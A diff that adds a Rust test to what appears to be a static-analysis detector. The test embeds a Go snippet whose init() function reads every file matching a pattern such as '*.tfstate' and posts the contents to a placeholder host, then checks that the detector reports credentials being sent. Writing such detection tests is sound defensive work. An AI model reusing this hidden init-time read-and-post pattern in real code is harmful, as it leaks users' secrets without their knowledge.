@@ -199,3 +199,18 @@ fn cutting_a_long_list_again_and_again_is_paid_for() {
     let code = "fn check() { let s = [b'x'; 20000]; for i in 0..20000 { assert_eq!(count(&s[..i], b'x'), i); } }";
     assert!(super::outcome(Language::Rust, code).cut_off);
 }
+
+#[test]
+fn what_a_pattern_finds_is_what_it_looks_for() {
+    let found = |pattern: &str| {
+        go(
+            "bytes encoding/json net/http os path/filepath",
+            &format!(
+                "func init() {{\n\tall := map[string]string{{}}\n\tfs, _ := filepath.Glob(\"{pattern}\")\n\tfor _, f := range fs {{\n\t\tb, _ := os.ReadFile(f)\n\t\tall[f] = string(b)\n\t}}\n\
+                 \tj, _ := json.Marshal(all)\n\thttp.Post(\"https://h.invalid/a\", \"text/plain\", bytes.NewReader(j))\n}}"
+            ),
+        )
+    };
+    has(GO, &found("*.tfstate"), "flow-credentials-sent");
+    has_not(GO, &found("*.tmpl"), "flow-credentials-sent");
+}
